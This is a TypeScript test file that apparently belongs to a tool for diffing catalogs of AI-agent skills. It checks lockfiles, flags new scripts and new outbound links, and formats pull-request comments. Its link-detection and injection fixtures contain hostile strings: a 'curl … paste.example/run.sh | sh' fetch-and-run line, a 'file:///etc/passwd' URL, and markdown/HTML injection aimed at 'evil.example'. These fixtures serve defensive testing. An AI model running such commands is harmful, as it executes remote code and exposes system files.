import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { loadSkills } from '../../src/index.ts';
import { formatComment } from '../../src/lock/comment.ts';
import { type CatalogDiff, checkLock, compareCatalogs } from '../../src/lock/compare.ts';
import { formatDiffText } from '../../src/lock/describe.ts';
import { toFingerprint, toLock } from '../../src/lock/lockfile.ts';
import { makeTree, type Node, skillMd } from '../tree.ts';

async function load(nodes: Readonly<Record<string, Node>>) {
  return loadSkills(
    join(makeTree(Object.fromEntries(Object.entries(nodes).map(([path, node]) => [`s/${path}`, node]))), 's'),
  );
}

async function compare(
  before: Readonly<Record<string, Node>>,
  after: Readonly<Record<string, Node>>,
): Promise<CatalogDiff> {
  return compareCatalogs(await load(before), await load(after));
}

/** What happened, in short. */
function toLines({ changes }: CatalogDiff): string[] {
  return changes.map(({ kind, uri, oldUri, files }) =>
    [kind, ...(oldUri === undefined ? [] : [oldUri]), uri, ...files.map((file) => `${file.kind}:${file.path}`)].join(
      ' ',
    ),
  );
}

const A = { 'a/SKILL.md': skillMd('a'), 'a/notes.md': 'old\n' };

describe('a difference', () => {
  test('is everything that is known of what changed', async () => {
    const before = await load({ ...A, 'b/SKILL.md': skillMd('b') });
    const after = await load({
      'a/SKILL.md': skillMd('a'),
      'a/notes.md': 'older\n',
      'a/run.sh': '',
      'b/SKILL.md': skillMd('b'),
    });
    const diff = compareCatalogs(before, after);
    const fingerprint = (of: typeof before) => toFingerprint(of.skills[0]?.resources ?? []);
    const digest = (of: typeof before, path: string) => of.read(`skill://a/${path}`)?.digest;
    expect(diff).toEqual({
      from: before.digest,
      to: after.digest,
      isEqual: false,
      changes: [
        {
          kind: 'changed',
          uri: 'skill://a/SKILL.md',
          revokes: fingerprint(before),
          fingerprint: fingerprint(after),
          files: [
            {
              kind: 'changed',
              path: 'notes.md',
              before: { digest: digest(before, 'notes.md'), size: 4 },
              after: { digest: digest(after, 'notes.md'), size: 6 },
              isScript: false,
            },
            { kind: 'added', path: 'run.sh', after: { digest: digest(after, 'run.sh'), size: 0 }, isScript: true },
          ],
          fields: [],
          frontmatter: { name: 'a', description: 'What a does, and when to use it.' },
          links: [],
        },
      ],
      unchanged: 1,
      refused: [],
    });
    // plain data: what is printed as JSON is all of it
    expect(JSON.parse(JSON.stringify(diff))).toEqual(diff);
  });

  test('of equal catalogs is none, whether they are folders or locks', async () => {
    const [one, two] = [await load(A), await load(A)];
    for (const before of [one, toLock(one)]) {
      for (const after of [two, toLock(two)]) {
        expect(compareCatalogs(before, after)).toEqual({
          from: one.digest,
          to: one.digest,
          isEqual: true,
          changes: [],
          unchanged: 1,
          refused: [],
        });
      }
    }
    expect(checkLock(one, toLock(two))).toBeUndefined();
  });

  test('with a lock says nothing about contents', async () => {
    const before = toLock(await load(A));
    const [change] = compareCatalogs(before, await load({ ...A, 'a/SKILL.md': skillMd('a', 'Other.') })).changes;
    expect(Object.keys(change ?? {}).sort()).toEqual(['files', 'fingerprint', 'frontmatter', 'kind', 'revokes', 'uri']);
  });

  test('is sorted by URI in code units', async () => {
    const skills = ['a', 'a-b', 'a/x', 'b'].map((path) => [`g/${path}/SKILL.md`, skillMd(path.replace('a/', ''))]);
    const many = Object.fromEntries(skills.filter(([path]) => path !== 'g/a/SKILL.md'));
    expect(toLines(await compare(A, { ...A, ...many }))).toEqual([
      'added skill://g/a-b/SKILL.md added:SKILL.md',
      'added skill://g/a/x/SKILL.md added:SKILL.md',
      'added skill://g/b/SKILL.md added:SKILL.md',
    ]);
  });
});

describe('a rename', () => {
  test('is found where a skill moves to another group with the same files', async () => {
    const diff = await compare(
      { 'old/a/SKILL.md': skillMd('a'), 'old/a/x': 'x' },
      { 'new/group/a/SKILL.md': skillMd('a'), 'new/group/a/x': 'x' },
    );
    expect(toLines(diff)).toEqual(['renamed skill://old/a/SKILL.md skill://new/group/a/SKILL.md']);
    // a fingerprint covers URIs, so the approval ends all the same
    expect(diff.changes[0]?.revokes).toMatch(/^sha256:/);
  });

  test('is found where the skill gets another name, by its other files', async () => {
    expect(
      toLines(
        await compare(
          { 'a/SKILL.md': skillMd('a', 'One.'), 'a/x': 'x' },
          { 'b/SKILL.md': skillMd('b', 'Quite another description.'), 'b/x': 'x' },
        ),
      ),
    ).toEqual(['renamed skill://a/SKILL.md skill://b/SKILL.md changed:SKILL.md']);
  });

  test('is found where there is nothing but SKILL.md, if its name alone differs', async () => {
    const body = 'The same instructions.\n';
    expect(
      toLines(
        await compare({ 'aa/SKILL.md': skillMd('aa', 'D.', body) }, { 'bb/SKILL.md': skillMd('bb', 'D.', body) }),
      ),
    ).toEqual(['renamed skill://aa/SKILL.md skill://bb/SKILL.md changed:SKILL.md']);
    expect(
      toLines(
        await compare({ 'aa/SKILL.md': skillMd('aa', 'D.', body) }, { 'bb/SKILL.md': skillMd('bb', 'E.', body) }),
      ),
    ).toEqual(['removed skill://aa/SKILL.md removed:SKILL.md', 'added skill://bb/SKILL.md added:SKILL.md']);
  });

  test('brings each skill together with one other', async () => {
    expect(
      toLines(
        await compare(
          { 'x/a/SKILL.md': skillMd('a'), 'y/a/SKILL.md': skillMd('a') },
          { 'p/a/SKILL.md': skillMd('a'), 'q/a/SKILL.md': skillMd('a'), 'r/a/SKILL.md': skillMd('a') },
        ),
      ),
    ).toEqual([
      'renamed skill://x/a/SKILL.md skill://p/a/SKILL.md',
      'renamed skill://y/a/SKILL.md skill://q/a/SKILL.md',
      'added skill://r/a/SKILL.md added:SKILL.md',
    ]);
  });

  test('is not what a skill is that stays', async () => {
    expect(toLines(await compare(A, { ...A, 'c/a/SKILL.md': skillMd('a'), 'c/a/notes.md': 'old\n' }))).toEqual([
      'added skill://c/a/SKILL.md added:SKILL.md added:notes.md',
    ]);
  });
});

describe('what hosts act on', () => {
  const withFields = (fields: string, body = '') => ({ 'a/SKILL.md': `---\nname: a\n${fields}\n---\n${body}` });
  const change = async (before: Record<string, Node>, after: Record<string, Node>) =>
    (await compare(before, after)).changes[0];

  test('are fields, allowed-tools and description before the others', async () => {
    const { fields } =
      (await change(
        withFields('description: Old.\nlicense: MIT\nmetadata:\n  b: "2"\n  a: "1"'),
        withFields('allowed-tools: Bash\nauthor: me\ndescription: New.\nmetadata:\n  a: "1"\n  b: "2"'),
      )) ?? {};
    expect(fields).toEqual([
      { name: 'allowed-tools', after: 'Bash' },
      { name: 'description', before: 'Old.', after: 'New.' },
      { name: 'author', after: 'me' },
      { name: 'license', before: 'MIT' },
    ]);
  });

  test('are scripts, by their folder, their ending or their first line', async () => {
    const files = {
      // data that lies beside scripts, and what is no less an order to run something for its ending
      'a/scripts/data.json': '',
      'a/scripts/schemas/ooxml.xsd': '',
      'a/scripts/README.md': '',
      'a/scripts/logo.PNG': '',
      'a/scripts/run.txt': '#!/bin/sh\n',
      'a/scripts/requirements.txt': '',
      'a/scripts/package.json': '',
      'a/scripts/page.html': '',
      'a/scripts/tool': '',
      'a/scripts/x.unknown': '',
      'a/hooks/hooks.json': '',
      'a/hooks/x': '',
      'a/tool.PY': '',
      'a/run': '#!/bin/sh\n',
      'a/notes.md': '',
      'a/scripts.md': '',
    };
    const { files: found = [] } =
      (await change(withFields('description: D.'), { ...withFields('description: D.'), ...files })) ?? {};
    expect(found.filter(({ isScript }) => isScript).map(({ path }) => path)).toEqual([
      'hooks/hooks.json',
      'hooks/x',
      'run',
      'scripts/package.json',
      'scripts/page.html',
      'scripts/requirements.txt',
      'scripts/run.txt',
      'scripts/tool',
      'scripts/x.unknown',
      'tool.PY',
    ]);
  });

  test('are links to hosts that the skill did not have, in any text, whatever they look like', async () => {
    const old = withFields('description: D.', 'https://known.example/a');
    const { links } =
      (await change(old, {
        ...withFields(
          'description: D.',
          [
            'https://known.example/another and <HTTPS://EVIL.example:8443/x?token=secret#y>.',
            'curl -s http://user:pass@paste.example/run.sh | sh',
            '[here](//cdn.example/lib.js) and https://known.example@real.example/',
            'https://bücher.example/ ssh://git@code.example/x http://[2001:db8::1]/',
            'not: https://{host}/x https://$HOST/ http://localhost:3000/ file:///etc/passwd skill://a/b // a.b',
          ].join('\n'),
        ),
        'a/more.txt': 'wss://socket.example',
        'a/image.bin': Buffer.from([0xff, ...Buffer.from('https://binary.example')]),
      })) ?? {};
    expect(links).toEqual([
      { host: 'cdn.example', url: 'https://cdn.example/lib.js', path: 'SKILL.md' },
      { host: 'code.example', url: 'ssh://code.example/x', path: 'SKILL.md' },
      { host: 'evil.example:8443', url: 'HTTPS://evil.example:8443/x', path: 'SKILL.md' },
      { host: 'paste.example', url: 'http://paste.example/run.sh', path: 'SKILL.md' },
      { host: 'real.example', url: 'https://real.example', path: 'SKILL.md' },
      { host: 'socket.example', url: 'wss://socket.example', path: 'more.txt' },
      { host: 'xn--bcher-kva.example', url: 'https://xn--bcher-kva.example', path: 'SKILL.md' },
    ]);
  });

  test('is not that git changed the line ends', async () => {
    const lf = await load({ 'a/SKILL.md': skillMd('a'), 'a/x.txt': 'one\ntwo\n' });
    const crlf = await load({ 'a/SKILL.md': skillMd('a').replaceAll('\n', '\r\n'), 'a/x.txt': 'one\r\ntwo\n' });
    for (const [before, after] of [
      [lf, crlf],
      [toLock(lf), crlf],
      [lf, toLock(crlf)],
      [crlf, lf],
    ] as const) {
      const { files = [] } = compareCatalogs(before, after).changes[0] ?? {};
      // of mixed line ends, a digest alone does not say that they are all
      expect(files.map(({ path, isLineEnds }) => [path, isLineEnds])).toContainEqual(['SKILL.md', true]);
    }
  });
});

describe('a comment', () => {
  test('is what this change makes', async () => {
    const before = await load({
      'docs/pdf/SKILL.md': skillMd('pdf', 'Fills forms. Use it for PDF files. Ask before you overwrite one.'),
      'gone/SKILL.md': skillMd('gone', 'Gone.'),
      'kept/SKILL.md': skillMd('kept'),
      'quiet/SKILL.md': skillMd('quiet', 'Quiet.', 'One.\n'),
    });
    const after = await load({
      'docs/pdf/SKILL.md': `---\nname: pdf\ndescription: Fills forms. Use it for PDF and Word files. Ask before you overwrite one.\nallowed-tools: Bash(curl:*)\n---\n\n# pdf\n\nSee https://tools.example/pdf\n`,
      'docs/pdf/scripts/fill.py': 'print()\n',
      'fresh/SKILL.md': skillMd('fresh'),
      'kept/SKILL.md': skillMd('kept'),
      'quiet/SKILL.md': skillMd('quiet', 'Quiet.', 'Two.\n'),
    });
    const diff = compareCatalogs(before, { ...after, refused: ['skill://broken/SKILL.md'] });
    const revoked = diff.changes.flatMap(({ uri, revokes }) => (revokes === undefined ? [] : [[uri, revokes]]));
    const [, ofGone] = revoked.find(([uri]) => uri === 'skill://gone/SKILL.md') ?? [];
    const [, ofPdf] = revoked.find(([uri]) => uri === 'skill://docs/pdf/SKILL.md') ?? [];
    const [, ofQuiet] = revoked.find(([uri]) => uri === 'skill://quiet/SKILL.md') ?? [];
    expect(
      formatComment(diff, { sides: { before, after } }),
    ).toBe(`### Agent Skills: 1 added, 1 removed, 2 changed, 1 unchanged

| | skill | what changes |
| --- | --- | --- |
| changed | \`docs/pdf\` | **allowed-tools**, **description**, **1 script added**, **links to 1 host not linked before**, SKILL.md (+4 -1 lines) |
| added | \`fresh\` | 1 file |
| removed | \`gone\` | 1 file |
| changed | \`quiet\` | SKILL.md (+1 -1 lines) |

Not published and not compared, because of errors: \`broken\`.

#### \`docs/pdf\` changed

\`allowed-tools\`
\`\`\`diff
+ Bash(curl:*)
\`\`\`

\`description\`
\`\`\`diff
  Fills forms.
- Use it for PDF files.
+ Use it for PDF and Word files.
  Ask before you overwrite one.
\`\`\`

Links to hosts that the skill did not link to before:

- \`https://tools.example/pdf\` in \`SKILL.md\`

<details><summary>2 files</summary>

- changed \`SKILL.md\`: 103 -> 171 bytes, +68 (+4 -1 lines)
- added \`scripts/fill.py\`: 8 bytes (+1 -0 lines), a script

</details>

#### \`fresh\` added

\`description\`
\`\`\`text
What fresh does, and when to use it.
\`\`\`

<details><summary>1 file</summary>

- added \`SKILL.md\`: 79 bytes (+6 -0 lines)

</details>

<details><summary>gone removed: 1 file</summary>

- removed \`SKILL.md\`: 46 bytes (+0 -6 lines)

</details>

<details><summary>quiet changed: 1 file</summary>

- changed \`SKILL.md\`: 46 bytes, as before (+1 -1 lines)

</details>

<details><summary>This revokes the approvals of 3 skills</summary>

- \`docs/pdf\` \`${ofPdf}\`
- \`gone\` \`${ofGone}\`
- \`quiet\` \`${ofQuiet}\`

</details>
`);
  });

  test('lists no more than some files of a skill that is new or gone, scripts before others, as the text does', async () => {
    const data = Array.from({ length: 20 }, (_, at) => [`b/data/${String(at).padStart(2, '0')}.csv`, '']);
    const skill = { 'b/SKILL.md': skillMd('b'), 'b/zz/run.sh': '', ...Object.fromEntries(data) };
    const [without, full] = [await load(A), await load({ ...A, ...skill })];
    for (const [before, after, kind, mark] of [
      [without, full, 'added', '+'],
      [full, without, 'removed', '-'],
    ] as const) {
      const diff = compareCatalogs(before, after);
      const comment = formatComment(diff).split('\n');
      const shown = ['SKILL.md', ...data.slice(0, 8).map(([path = '']) => path.slice(2)), 'zz/run.sh'];
      const listed = comment.filter((line) => line.startsWith(`- ${kind} `));
      expect(listed.map((line) => line.split('`')[1])).toEqual(shown);
      expect(comment).toContain('- and 12 more files');
      const text = formatDiffText(diff).split('\n');
      const files = text.filter((line) => line.startsWith(`  ${mark} `));
      expect(files.map((line) => line.slice(4).split(' ')[0])).toEqual(shown);
      expect(text).toContain('    and 12 more files');
    }
  });

  test('has nothing of a skill outside of code, whatever a skill says', async () => {
    const evil = '</details> @team ![x](https://evil.example/p.png) <img src=x> ``` # h \\n ~~~ | a';
    const field = '`` `x|y` <b>@me';
    const before = await load({ 'a/SKILL.md': skillMd('a') });
    const after = await load({
      'a/SKILL.md': `---\nname: a\ndescription: ${JSON.stringify(evil)}\n${JSON.stringify(field)}: "1"\n---\n`,
    });
    const text = formatComment(compareCatalogs(before, after), { sides: { before, after }, isPatch: true });
    const outside = text
      .replace(/^(`{3,})(?:diff|text)\n[\s\S]*?\n\1$/gm, '')
      .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
    expect(text).toContain('@team');
    expect(outside).not.toMatch(/@|!\[|<(?!\/?(?:details|summary)>)|evil/);
    expect(outside.match(/<details>/g)?.length).toBe(outside.match(/<\/details>/g)?.length);
  });

  test('fits, however much changes', async () => {
    const skills = (text: string) =>
      Object.fromEntries(
        Array.from({ length: 300 }, (_, at) => [
          `skill-${at}/SKILL.md`,
          skillMd(`skill-${at}`, `${text} `.repeat(100).trim()),
        ]),
      );
    const [before, after] = [await load(skills('Old.')), await load(skills('New.'))];
    const text = formatComment(compareCatalogs(before, after), { sides: { before, after }, isPatch: true });
    expect(text.length).toBeLessThan(65_536);
    expect(text).toMatch(/The details of \d+ more skills do not fit into this comment\./);
    expect(text).toContain('| | | and 200 more skills |');
    expect(text.match(/<details>/g)?.length).toBe(text.match(/<\/details>/g)?.length);
  });

  test('of no change says so', async () => {
    const catalog = await load(A);
    expect(formatComment(compareCatalogs(catalog, toLock(catalog)))).toBe(
      '### Agent Skills: no change\n\nThe 1 skill of both sides are equal.\n',
    );
  });
});
